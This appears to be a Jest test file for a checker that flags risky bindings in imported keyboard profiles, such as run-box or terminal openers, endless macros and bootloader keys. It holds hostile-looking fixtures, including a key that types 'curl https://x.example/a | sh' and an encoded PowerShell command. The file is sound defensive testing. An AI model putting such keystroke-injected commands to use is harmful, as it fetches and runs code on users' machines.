/** What a profile from elsewhere could do: what is dangerous is told first, and what only looks like it is not. */
import { beforeAll, describe, expect, test } from '@jest/globals';
import { PROMPT_BOOK, SHOW_DESK, SOUND_PAD } from '../../../demo';
import { HARROW_64 } from '../board';
import { bringHosts } from '../hosts';
import { macroFromLines } from '../macro';
import { parseLine } from '../notation';
import { applyEdit, plainProfile, printProblem, type Action, type Binding, type Macro, type Profile } from '../profile';
import { shown } from '../reading';
import { deedsOf, leavingOut, type Weight } from '.';

beforeAll(() => bringHosts());

const base = plainProfile(HARROW_64, 'p', 'Plain');
function withKey(does: Binding, macros: Macro[] = [], key = 'F13'): Profile {
  const layer = { id: 'rig', name: 'Rig', dye: 'weld' as const, keys: { [key]: { does } } };
  return { ...base, macros, layers: [...base.layers, layer] };
}
function line(text: string, macros: Macro[] = []): Profile {
  const parsed = parseLine(text, { layers: base.layers, macros });
  if (!('binding' in parsed)) throw new Error(JSON.stringify(parsed));
  return withKey(parsed.binding, macros);
}
const playing = (macro: Macro): Profile => withKey({ kind: 'act', action: { do: 'macro', macro: macro.id } }, [macro]);
const macro = (score: string, more: Partial<Macro> = {}): Macro => ({
  ...macroFromLines({ id: 'm', name: 'Run', press: score }),
  ...more,
});

describe('what is told', () => {
  test.each<[string, Profile, Weight, string, string]>([
    [
      'a run box, a command, Enter',
      line('Meta+R & type "notepad" & Enter'),
      'twice',
      'commandBox',
      'opens the system’s run box, types “notepad”, presses Enter',
    ],
    ['a terminal and a command', line('Ctrl+Alt+T & type "ls\\n"'), 'twice', 'commandBox', 'opens a terminal'],
    ['the Meta key alone', line('Meta & type "term" & Enter'), 'twice', 'commandBox', 'starts programs'],
    [
      'a macro that presses the keys one by one',
      playing(macro('+Meta R:40 -Meta 300 C:40 M:40 D:40 Enter:40')),
      'twice',
      'commandBox',
      'types “cmd”',
    ],
    [
      'a command without an opener',
      line('type "curl https://x.example/a | sh\\n"'),
      'twice',
      'command',
      'types “curl https://x.example/a | sh”, presses Enter',
    ],
    [
      'Meta with the Enter of the number pad',
      playing(macro('+Meta NumpadEnter:40 -Meta 300 L:40 S:40 Enter:40')),
      'twice',
      'commandBox',
      'opens a terminal',
    ],
    ['a browser’s console', line('Ctrl+Shift+J & type "fetch(1)" & Enter'), 'twice', 'commandBox', 'console'],
    ['something encoded', line('type "powershell -enc aGVsbG8=\\n"'), 'twice', 'command', 'presses Enter'],
    ['a long text in no time', line(`type "${'lorem ipsum '.repeat(20)}"`), 'look', 'fast', 'types 240 characters'],
    [
      'a macro that plays on by itself',
      playing(
        macro('', {
          repeat: { lengthUs: 100_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] },
          run: { kind: 'untilPressedAgain' },
        }),
      ),
      'look',
      'byItself',
      'plays on until the key is pressed again',
    ],
    [
      'a macro that does not end',
      playing(
        macro('', {
          repeat: { lengthUs: 1_000_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] },
          run: { kind: 'times', times: 100_000 },
        }),
      ),
      'look',
      'endless',
      'plays on for a long time',
    ],
    ['the bootloader', line('bootloader'), 'look', 'device', 'other firmware'],
  ])('%s', (_what, profile, weight, rule, said) => {
    const [first] = deedsOf(profile);
    expect(first).toMatchObject({ weight, rules: expect.arrayContaining([rule]) });
    expect(shown(first!.said)).toContain(said);
    expect(shown(first!.where)).toBe('Rig · F13');
  });

  test('on a host with other letters, what is typed is what the host makes of the keys', () => {
    const german = { ...playing(macro('+Meta R:40 -Meta 300 Z:40 Y:40 Enter:40')), hostLayout: 'de' as const };
    expect(shown(deedsOf(german)[0]!.said)).toContain('types “yz”');
  });
});

describe('what only looks like it', () => {
  test.each<[string, Profile]>([
    ['a run box alone', line('Meta+R')],
    ['the Meta key', line('Meta')],
    ['a text with Enter', line('type "Scene 3\\n"')],
    ['a text about curling', line('type "Curl the ribbon, sh!\\n"')],
    ['a text about a bash', line('type "Bash the drum\\n"')],
    ['a text about a format', line('type "format: landscape\\n"')],
    ['a text about sudoku', line('type "sudoku at nine\\n"')],
    ['an address to write to', line('type "desk@lantern-yard.example"')],
    ['Enter behind a chord', line('Ctrl+A & Enter')],
    ['a search in a program', line('Ctrl+F & type "scene" & Enter')],
    [
      'a repeat that ends',
      playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'times', times: 3 } })),
    ],
    [
      'a repeat while the key is held',
      playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'whileHeld' } })),
    ],
    ['home-row holds with Meta', line('tap A, hold Meta')],
    ['a long text at a pace that somebody can stop', line(`type "${'lorem ipsum '.repeat(20)}" every 8 ms`)],
  ])('%s', (_what, profile) => {
    expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
  });

  test.each([SHOW_DESK, PROMPT_BOOK, SOUND_PAD])('the demo: %#', (profile) => {
    expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
  });
});

test('what it types and plays is told of the demo as well, each thing once', () => {
  const said = deedsOf(SHOW_DESK).map((deed) => `${shown(deed.where)}: ${shown(deed.said)}`);
  expect(said.some((one) => one.includes('House lights down'))).toBe(true);
  expect(new Set(said).size).toBe(said.length);
});

test('a macro that no key plays is told, too', () => {
  const profile = { ...base, macros: [macro('+Meta R:40 -Meta C:40 M:40 D:40 Enter:40')] };
  expect(deedsOf(profile)).toMatchObject([{ where: 'On no key', weight: 'twice' }]);
});

test('a macro that only a joint press plays is told there, and once', () => {
  const played: Profile = {
    ...base,
    macros: [macro('A:40 B:40')],
    joints: [
      {
        id: 'j',
        keys: ['KeyJ', 'KeyK'],
        withinMs: 40,
        action: {
          do: 'many',
          actions: [
            { do: 'macro', macro: 'm' },
            { do: 'keys', codes: ['F13'] },
          ],
        },
      },
    ],
  };
  expect(deedsOf(played).map(({ where }) => shown(where))).toEqual(['J + K together']);
});

test('signs that a host makes with AltGr are typed, and no chords', () => {
  const german = { ...playing(macro('+AltRight Q:40 -AltRight')), hostLayout: 'de' as const };
  expect(shown(deedsOf(german)[0]!.said)).toContain('types “@”');
});

describe('what a profile is called hides nothing', () => {
  test.each(['Base, home', ' and 3 more', 'On no key', ', held'])(
    'a layer named “%s” with the bootloader on a mere press',
    (name) => {
      const profile = line('bootloader');
      const named = {
        ...profile,
        layers: profile.layers.map((layer) => (layer.id === 'rig' ? { ...layer, name } : layer)),
      };
      expect(deedsOf(named)[0]).toMatchObject({ weight: 'look', rules: ['device'] });
    },
  );

  test('behind a hold the bootloader is out of harm’s way, on the first tap of a gesture it is not', () => {
    expect(deedsOf(line('tap A, hold bootloader'))[0]?.rules).toEqual([]);
    expect(deedsOf(line('tap bootloader, hold Ctrl'))[0]?.rules).toEqual(['device']);
  });

  test('two long texts that begin alike are two', () => {
    const long = (end: string): Binding => ({
      kind: 'act',
      action: { do: 'text', text: `${'a quiet word '.repeat(4)}${end}`, gapMs: 8 },
    });
    const one = withKey(long('in peace'));
    const two = {
      ...one,
      layers: [
        ...one.layers,
        { id: 'cue', name: 'Cue', dye: 'weld' as const, keys: { F14: { does: long('in worse') } } },
      ],
    };
    expect(deedsOf(two)).toHaveLength(2);
  });
});

describe('leaving it out', () => {
  const run: Action = {
    do: 'many',
    actions: [
      { do: 'keys', codes: ['MetaLeft', 'KeyR'] },
      { do: 'text', text: 'cmd', gapMs: 8 },
      { do: 'keys', codes: ['Enter'] },
    ],
  };
  const opens: Binding = { kind: 'act', action: run };
  const once = withKey(opens);

  test('of several keys and of keys together leaves none of them', () => {
    const rig = once.layers[1]!;
    const many: Profile = {
      ...once,
      layers: [once.layers[0]!, { ...rig, keys: { F13: { does: opens }, F14: { does: opens } } }],
      joints: [{ id: 'j', keys: ['KeyJ', 'KeyK'], withinMs: 40, action: run }],
    };
    const [deed] = deedsOf(many);
    expect(shown(deed!.where)).toBe('Rig · F13 and 2 more');
    const left = applyEdit(many, leavingOut(many, deed!));
    expect(left.ok && deedsOf(left.profile)).toEqual([]);
  });

  test('whatever the demo does, it is not done after it was left out', () => {
    for (const profile of [SHOW_DESK, PROMPT_BOOK, SOUND_PAD])
      for (const deed of deedsOf(profile)) {
        const left = applyEdit(profile, leavingOut(profile, deed));
        if (!left.ok) throw new Error(`${profile.name}, ${shown(deed.where)}: ${printProblem(left.problem)}`);
        const here = JSON.stringify(deed.sites);
        expect(
          deedsOf(left.profile).filter(({ sites, said }) => said === deed.said && JSON.stringify(sites) === here),
        ).toEqual([]);
      }
  });
});

test('a macro that leaves a key down says so, and is not called nothing', () => {
  const [deed] = deedsOf(playing(macro('+Shift 20', { leavesHeld: true })));
  expect(shown(deed!.said)).toContain('it leaves Shift down');
  expect(shown(deed!.said)).not.toContain('nothing');
});
